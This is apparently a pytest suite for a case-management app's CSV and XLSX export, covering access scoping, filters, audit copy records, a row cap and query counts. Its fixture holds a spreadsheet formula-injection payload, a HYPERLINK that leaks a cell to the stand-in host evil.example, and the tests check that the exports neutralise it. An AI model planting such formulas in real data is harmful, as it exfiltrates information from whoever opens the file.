"""The case list as CSV and XLSX: the reader's own cases with the list's filters, formula injection
neutralised in both files, one copy record per case, a row cap and a bounded number of queries."""

import csv
import io

import pytest
from openpyxl import load_workbook

from audit.models import AuditRecord
from casework.models import Case, CaseStatus
from tests.api.conftest import Api, error_of
from tests.factories import open_case

pytestmark = pytest.mark.django_db

INJECTION = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def csv_rows(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def xlsx_cells(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return [list(row) for row in sheet.iter_rows()]


@pytest.fixture
def cases(lead, unrelated):
    mine = [
        open_case(actor=lead.caseworker, pseudonym=INJECTION, age_band="15-17"),
        open_case(actor=lead.caseworker, pseudonym="K.L.", age_band="12-14"),
    ]
    open_case(actor=unrelated.caseworker, pseudonym="Z.Z.")
    return mine


def test_the_csv_holds_the_readers_cases_with_the_case_list_columns(cases, lead):
    response = Api(lead.liaison).get("cases/export.csv", {"purpose": "Monthly review"})

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="cases-')
    header, *rows = csv_rows(response)
    assert header[:6] == ["Case", "Pseudonym", "Age band", "Status", "Trafficking status", "Lead agency"]
    assert header[6].startswith("Next deadline (")
    assert sorted(row[0] for row in rows) == sorted(case.number for case in cases)
    assert {row[5] for row in rows} == {"Harris County CPS"}


def test_a_formula_in_a_pseudonym_comes_out_as_text_in_the_csv(cases, lead):
    response = Api(lead.liaison).get("cases/export.csv", {"purpose": "Monthly review"})

    pseudonyms = [row[1] for row in csv_rows(response)[1:]]
    assert f"'{INJECTION}" in pseudonyms
    assert not any(value.startswith("=") for row in csv_rows(response) for value in row)


def test_a_formula_in_a_pseudonym_comes_out_as_a_text_cell_in_the_workbook(cases, lead):
    response = Api(lead.liaison).get("cases/export.xlsx", {"purpose": "Monthly review"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("application/vnd.openxmlformats-officedocument.spreadsheetml")
    cells = [cell for row in xlsx_cells(response) for cell in row]
    assert not [cell for cell in cells if cell.data_type == "f"]
    (injected,) = [cell for cell in cells if INJECTION in str(cell.value)]
    assert (injected.value, injected.data_type) == (f"'{INJECTION}", "s")


def test_numbers_stay_numbers_in_the_workbook(cases, lead):
    response = Api(lead.liaison).get("cases/export.xlsx", {"purpose": "Monthly review"})

    overdue = [row[7] for row in xlsx_cells(response)[1:]]
    assert {(cell.value, cell.data_type) for cell in overdue} == {(0, "n")}


def test_the_case_list_filters_apply(cases, lead):
    Case.objects.filter(pk=cases[1].pk).update(status=CaseStatus.CLOSED)

    response = Api(lead.liaison).get("cases/export.csv", {"purpose": "Review", "status": "closed"})

    assert [row[0] for row in csv_rows(response)[1:]] == [cases[1].number]


def test_each_exported_case_gets_a_copy_record_with_the_purpose(cases, lead):
    Api(lead.liaison).get("cases/export.xlsx", {"purpose": "Audit by the state"})

    copies = AuditRecord.objects.filter(event_type="copy.case_list")
    assert sorted(str(copy.case_id) for copy in copies) == sorted(str(case.pk) for case in cases)
    for copy in copies:
        assert copy.user == lead.liaison
        assert copy.detail["purpose"] == "Audit by the state"
        assert copy.detail["sections"] == ["core"]
        assert (copy.detail["format"], copy.detail["rows"]) == ("xlsx", 2)


def test_an_export_needs_a_purpose(cases, lead):
    response = Api(lead.liaison).get("cases/export.csv")

    assert response.status_code == 400
    assert "purpose" in error_of(response)["fields"]
    assert not AuditRecord.objects.filter(event_type="copy.case_list").exists()


def test_an_export_beyond_the_row_cap_is_refused_with_a_clear_message(cases, lead, settings):
    settings.BRIDGE_EXPORT_MAX_ROWS = 1

    response = Api(lead.liaison).get("cases/export.csv", {"purpose": "Review"})

    assert response.status_code == 400
    assert error_of(response)["message"] == (
        "An export holds at most 1 cases; narrow the list with its filters first."
    )
    assert not AuditRecord.objects.filter(event_type="copy.case_list").exists()


# The token, the cases chosen, their rows with their figures, a savepoint around the copy records.
EXPORT_QUERIES = 6


@pytest.mark.parametrize("extension", ["csv", "xlsx"])
@pytest.mark.parametrize("count", [1, 30])
def test_an_export_costs_the_same_queries_whatever_its_size(
    lead, django_assert_num_queries, extension, count
):
    for number in range(count):
        open_case(actor=lead.caseworker, pseudonym=f"B.{number}")
    api = Api(lead.liaison)

    with django_assert_num_queries(EXPORT_QUERIES):
        response = api.get(f"cases/export.{extension}", {"purpose": "Review"})

    assert response.status_code == 200


def test_an_agency_administrator_exports_an_empty_list(cases, lead):
    response = Api(lead.admin).get("cases/export.csv", {"purpose": "Review"})

    assert response.status_code == 200
    assert len(csv_rows(response)) == 1
    assert not AuditRecord.objects.filter(event_type="copy.case_list").exists()
